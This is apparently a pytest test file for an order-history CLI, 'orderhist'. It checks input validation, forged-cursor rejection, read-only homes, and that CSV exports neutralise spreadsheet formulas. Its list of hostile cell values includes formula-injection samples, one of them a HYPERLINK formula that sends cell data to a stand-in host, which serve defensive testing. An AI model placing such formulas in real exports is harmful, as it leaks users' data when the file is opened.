"""Bad values are refused up front (exit 2, one line naming the fix) before a home, a state
file, a lock or a process exists; a stack an older version made in a bad region can still be
inspected and removed; `orders --csv` is safe to open in a spreadsheet."""
from __future__ import annotations

import base64
import csv
import io
import json
import os
import shutil
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from helpers.cli import orderhist
from orderhist import aws, history, lifecycle, validate
from orderhist.errors import UsageProblem
from orderhist.records import OrderLine
from orderhist.resources import Names


def run_cli(monkeypatch, capsys, *args):
    """The real entry point (`main`, with its exit codes), in this process: fast, no server."""
    from orderhist import cli

    monkeypatch.delenv("ORDERHIST_HOME", raising=False)
    monkeypatch.setattr(sys, "argv", ["orderhist", *args])
    try:
        cli.main()
        code = 0
    except SystemExit as done:
        code = done.code or 0
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def assert_usage_error(code, err, *words):
    assert code == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in err, err
    for word in words:
        assert word in lines[0], lines[0]


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode()


# ---- item 7: regions ------------------------------------------------------------------------

@pytest.mark.parametrize("args, words", [
    (["up", "--region", "nowhere-1"], ["nowhere-1", "us-east-1"]),
    (["up", "--region", "cn-north-1"], ["cn-north-1", "local emulator"]),   # no AMI there
    (["up", "--region", "me-west-1"], ["me-west-1", "local emulator"]),     # no endpoints yet
    (["up", "--region", "nowhere-1", "--dry-run"], ["nowhere-1"]),
    (["up", "--target", "aws", "--region", "nowhere-1"], ["not an AWS region"]),
    (["up", "--target", "aws", "--region", "cn-north-1"], ["aws-cn", "partition"]),
])
def test_a_region_the_target_cannot_use_is_refused_before_anything_exists(
        tmp_path, monkeypatch, capsys, args, words):
    home = tmp_path / "home"
    code, _, err = run_cli(monkeypatch, capsys, "--home", str(home), *args)
    assert_usage_error(code, err, *words)
    assert not home.exists()  # no state, no lock, no pid file: nothing was started


def test_region_lists_come_from_botocore_and_the_emulators_data():
    regions = validate.local_regions()
    assert {"us-east-1", "eu-west-1", "ap-southeast-2"} <= set(regions)
    assert not {"cn-north-1", "us-gov-west-1", "me-west-1", "nowhere-1"} & set(regions)
    # The AMI data moto ships per region is what rules out cn-north-1 and the newest
    # regions; if a moto upgrade moves it, this says so rather than letting them through.
    assert validate._moto_ami_regions() is not None
    assert validate.region("aws", "eu-west-1") is None
    assert "new AWS region" in validate.region("aws", "eu-nowhere-7")  # allowed, warned
    with pytest.raises(UsageProblem):
        validate.region("aws", "us-gov-west-1")


# ---- item 9: values accepted that then failed ------------------------------------------------

@pytest.mark.parametrize("args, words", [
    (["up", "--faults", "1"], ["--faults", "0.05"]),
    (["up", "--faults", "nan"], ["--faults"]),
    (["up", "--prefix", "xn--shop"], ["--prefix"]),         # S3 refuses the bucket name
    (["up", "--prefix", "shop-"], ["--prefix"]),
    (["up", "--instance-type", "t4g small"], ["--instance-type", "t4g.small"]),
    (["up", "--target", "aws", "--endpoint-url", "localhost:4566"], ["http://"]),
    (["generate", "--count", "1", "--rate", "nan"], ["--rate"]),
    (["generate", "--count", "1", "--timeout", "inf"], ["--timeout"]),
    (["orders", "--customer", "abc"], ["--customer"]),
    (["orders", "--customer", "17850", "--since", "2011-02-01", "--until", "2011-01-01"],
     ["--since", "--until"]),
    (["orders", "--invoice", "   "], ["--invoice"]),
    (["orders", "--invoice", "536365", "--since", "2011-01-01"], ["--customer"]),
    (["emulator", "serve", "--port-file", "p.json", "--faults", "1"], ["--faults"]),
])
def test_bad_values_exit_2_before_a_stack_is_needed_or_touched(
        tmp_path, monkeypatch, capsys, args, words):
    home = tmp_path / "home"
    code, _, err = run_cli(monkeypatch, capsys, "--home", str(home), *args)
    assert_usage_error(code, err, *words)
    assert not home.exists()


def write_state(home: Path, **extra) -> bytes:
    home.mkdir(parents=True)
    data = {"version": 1, "target": "local", "prefix": "orderhist", "region": "us-east-1",
            "resources": {}, **extra}
    (home / "state.json").write_text(json.dumps(data))
    return (home / "state.json").read_bytes()


def test_faults_of_1_leave_the_state_untouched_and_a_recorded_1_names_the_fix(
        tmp_path, monkeypatch, capsys):
    home = tmp_path / "home"
    before = write_state(home)
    code, _, err = run_cli(monkeypatch, capsys, "--home", str(home), "up", "--faults", "1")
    assert_usage_error(code, err, "--faults")
    assert (home / "state.json").read_bytes() == before
    # The library refuses it too (a caller that is not the CLI).
    with pytest.raises(UsageProblem):
        lifecycle.up(lifecycle.Home(home), lifecycle.UpOptions(faults=1.0))
    assert (home / "state.json").read_bytes() == before
    # A state an older version saved with faults 1: `up` says how to repair it.
    other = tmp_path / "older"
    before = write_state(other, faults=1.0)
    code, _, err = run_cli(monkeypatch, capsys, "--home", str(other), "up")
    assert_usage_error(code, err, "orderhist up --faults 0")
    assert (other / "state.json").read_bytes() == before
    assert sorted(p.name for p in other.iterdir()) == ["state.json"]


FORGED = [
    b64(b"\xff\xfe junk \x00"),
    b64(json.dumps(["before", "2011-01-01T00:00:00#536365#0000001"]).encode()),
    b64(json.dumps({"before": 5}).encode()),
    b64(json.dumps({"before": ["2011"]}).encode()),
    b64(json.dumps({"before": "no sort key"}).encode()),
    b64(b"[" * 100_000),
    "not base64 at all!",
]


@pytest.mark.parametrize("cursor", FORGED)
def test_forged_cursors_are_usage_errors(tmp_path, monkeypatch, capsys, cursor):
    code, _, err = run_cli(monkeypatch, capsys, "--home", str(tmp_path / "home"), "orders",
                           "--customer", "17850", "--after", cursor)
    assert_usage_error(code, err, "--after")
    # And in the library, before any request is made (port 9 answers nothing).
    with pytest.raises(UsageProblem):
        history.customer_history(aws.Target(aws.LOCAL, "us-east-1", "http://127.0.0.1:9"),
                                 "t", "17850", after=cursor)


def test_a_printed_cursor_still_reads_back():
    key = "2011-01-01T00:00:00#536365#0000001"
    assert history.decode_cursor(history._encode_cursor(key)) == key


def test_dataset_synth_into_a_missing_folder_is_one_line(tmp_path, monkeypatch, capsys):
    out = tmp_path / "missing" / "dir" / "x.csv"
    code, _, err = run_cli(monkeypatch, capsys, "dataset", "synth", "--rows", "10",
                           "--out", str(out))
    assert_usage_error(code, err, str(out.parent), "create it")
    assert not out.parent.exists()


def test_dry_run_creates_nothing_on_disk(tmp_path, monkeypatch, capsys):
    home = tmp_path / "new" / "home"
    code, out, err = run_cli(monkeypatch, capsys, "--home", str(home), "up", "--dry-run")
    assert code == 0, err
    assert "would create" in out
    assert not (tmp_path / "new").exists()


def test_the_longest_prefix_keeps_every_name_within_aws_limits():
    longest_region = max(validate.local_regions() + tuple(
        r for r in validate._listed(validate._partitions()[0])), key=len)
    names = Names(validate.prefix("a" * validate.PREFIX_MAX), "123456789012", longest_region)
    limits = {"bucket": 63, "function": 64, "ingest_role": 64, "host_role": 64, "queue": 80,
              "stream": 128, "table": 255, "security_group": 255, "host": 255}
    for name, limit in limits.items():
        assert len(getattr(names, name)) <= limit, (name, getattr(names, name))
    with pytest.raises(UsageProblem):
        validate.prefix("a" * (validate.PREFIX_MAX + 1))


# ---- homes that cannot be written ------------------------------------------------------------

def test_a_home_under_a_file_is_one_line(tmp_path):
    (tmp_path / "file").write_text("")
    result = orderhist(tmp_path / "file" / "home", "up")
    assert_usage_error(result.returncode, result.stderr, "--home")


@pytest.mark.skipif(not Path("/sys/kernel").is_dir(), reason="needs sysfs")
def test_a_home_where_even_root_may_not_write_is_one_line(tmp_path):
    # Tests run as root, for whom permission bits are no obstacle; sysfs refuses mkdir to
    # root too, with the PermissionError a read-only home gives a user.
    home = Path("/sys/orderhist-test-home")
    result = orderhist(home, "up")
    assert_usage_error(result.returncode, result.stderr, str(home), "--home")


@pytest.mark.skipif(shutil.which("unshare") is None, reason="needs unshare")
def test_a_home_on_a_read_only_mount_is_one_line(tmp_path):
    # A read-only bind mount in a private mount namespace: EROFS stops root as well.
    home = tmp_path / "ro"
    home.mkdir()
    script = (f"mount --bind {home} {home} && mount -o remount,bind,ro {home} && "
              f"exec {sys.executable} -m orderhist --home {home} up")
    env = {k: v for k, v in os.environ.items() if k != "ORDERHIST_HOME"}
    result = subprocess.run(["unshare", "-rm", "sh", "-c", script], capture_output=True,
                            text=True, timeout=60, env=env)
    if "unshare:" in result.stderr or "mount:" in result.stderr:
        pytest.skip(f"no private mount namespace here: {result.stderr.strip()}")
    assert_usage_error(result.returncode, result.stderr, "read-only", str(home))
    assert not any(home.iterdir())


# ---- item 10: spreadsheet formulas in --csv --------------------------------------------------

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+SUM(1,2)", "-2+3", "@cmd",
           "\tTAB", "\rCR", "\x1b[31mRED\x1b[0m", "plain, with \"quotes\""]


def hostile_history() -> history.History:
    lines = [OrderLine(invoice_no="C536379", stock_code="=1+1" if i == 0 else "D",
                       description=text, quantity=-5, invoice_date="2011-01-02T10:00:00",
                       unit_price=Decimal("1.25") if i else Decimal("-1.25"),
                       customer_id="17850", country="United Kingdom", line_no=i + 1)
             for i, text in enumerate(HOSTILE)]
    order = history.Order("C536379", "2011-01-02T10:00:00", True, "United Kingdom", lines)
    return history.History("17850", [order])


def test_csv_neutralises_formulas_and_escapes_but_keeps_numbers():
    from orderhist.export import write_orders_csv

    out = io.StringIO()
    write_orders_csv(hostile_history(), out)
    assert "\x1b" not in out.getvalue()
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    shown = [row["description"] for row in rows]
    assert shown[:6] == ["'" + text for text in HOSTILE[:6]]
    assert shown[6] == "\\x1b[31mRED\\x1b[0m" and shown[7] == HOSTILE[7]
    assert rows[0]["stock_code"] == "'=1+1"
    # Numbers are numbers: a refund's -5 and -1.25 are not prefixed.
    assert rows[0]["quantity"] == "-5" and rows[0]["unit_price"] == "-1.25"
    assert rows[0]["amount"] == "6.25" and rows[1]["amount"] == "-6.25"
    assert ',-5,' in out.getvalue().splitlines()[1]


@pytest.mark.slow
def test_orders_csv_is_neutralised_and_json_exact_through_the_pipeline(tmp_path):
    source = tmp_path / "hostile.csv"
    with open(source, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["InvoiceNo", "StockCode", "Description", "Quantity", "InvoiceDate",
                         "UnitPrice", "CustomerID", "Country"])
        for i, text in enumerate(HOSTILE):
            writer.writerow(["C900100", f"S{i}", text, "-5", "2011-01-02 10:00", "1.25",
                             "99101", "United Kingdom"])
    home = tmp_path / "home"
    try:
        assert orderhist(home, "up").returncode == 0
        made = orderhist(home, "generate", "--source", str(source), "--count",
                         str(len(HOSTILE)), "--wait", "--json")
        assert made.returncode == 0, made.stderr
        exact = json.loads(orderhist(home, "orders", "--customer", "99101", "--json").stdout)
        assert [line["description"] for line in exact["orders"][0]["lines"]] == HOSTILE
        # Bytes: text mode would turn the CR of a cell into a line feed.
        shown = subprocess.run([sys.executable, "-m", "orderhist", "--home", str(home),
                                "orders", "--customer", "99101", "--csv"],
                               capture_output=True, timeout=60)
        assert shown.returncode == 0, shown.stderr
        text = shown.stdout.decode("utf-8")
        assert "\x1b" not in text
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [row["description"] for row in rows][:6] == ["'" + t for t in HOSTILE[:6]]
        assert {row["quantity"] for row in rows} == {"-5"}
    finally:
        orderhist(home, "down")


# ---- item 7: a stack an older version made in a bad region ----------------------------------

@pytest.mark.slow
def test_a_stack_made_in_a_bad_region_can_be_seen_and_removed(tmp_path, monkeypatch):
    from orderhist import processes
    from orderhist.state import Home

    home = Home(tmp_path / "home")
    # What an older orderhist did: accept the region, start the emulator, fail part-way.
    monkeypatch.setattr(validate, "region", lambda target, name: None)
    # Whatever stopped it part-way: only the half-made stack it leaves matters here.
    with pytest.raises(Exception):  # noqa: B017
        lifecycle.up(home, lifecycle.UpOptions(region="nowhere-1"))
    monkeypatch.undo()
    emulator_pid = processes.status(home, "emulator")["pid"]
    assert emulator_pid and processes.status(home, "emulator")["alive"]
    try:
        seen = orderhist(home.root, "status", "--json")
        assert seen.returncode == 0, seen.stderr
        assert "orderhist down" in json.loads(seen.stdout)["problem"]
        again = orderhist(home.root, "up")
        assert_usage_error(again.returncode, again.stderr, "nowhere-1", "orderhist down")
        gone = orderhist(home.root, "down")
        assert gone.returncode == 0, gone.stderr
        assert not home.state_file.exists()
        assert not processes.status(home, "emulator")["alive"]
    finally:
        orderhist(home.root, "down")
